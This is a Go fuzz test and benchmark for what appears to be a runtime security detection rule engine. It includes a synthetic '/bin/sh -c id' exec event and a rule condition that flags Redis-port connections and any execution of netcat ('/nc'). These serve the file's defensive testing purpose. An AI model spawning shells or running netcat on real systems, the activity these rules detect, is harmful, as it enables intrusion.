func FuzzParse(f *testing.F) {
	f.Add([]byte(userRules))
	f.Add([]byte("rules: []\n"))
	f.Add([]byte("rules:\n  - {name: a, severity: low, condition: 'kind == \"exec\"'}\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		rf, err := Parse(b)
		if err != nil {
			return
		}
		e, err := New(rf)
		if err != nil {
			return
		}
		x := exec("/bin/sh", "-c", "id")
		e.Eval(e.NewState(), &x)
	})
}

func BenchmarkEval(b *testing.B) {
	mix := []detect.Event{open("/var/task/config.json", "read"), open("/tmp/s.json", "write", "create"),
		connect("inet", "198.18.0.5", 443), ev("exit", nil), open("/etc/hosts", "read")}
	var rules []Rule
	for i := range 20 {
		rules = append(rules, Rule{Name: "r" + string(rune('a'+i)), Severity: detect.SeverityLow,
			Condition: `kind == "connect" && port == 6379 || kind == "exec" && path.endsWith("/nc")`})
	}
	for _, c := range []struct {
		name string
		f    *File
	}{{"builtins", nil}, {"builtins+20 user rules", &File{Rules: rules}}} {
		b.Run(c.name, func(b *testing.B) {
			e, err := New(c.f)
			if err != nil {
				b.Fatal(err)
			}
			st := e.NewState()
			b.ReportAllocs()
			for i := 0; b.Loop(); i++ {
				e.Eval(st, &mix[i%len(mix)])
			}
		})
	}
}
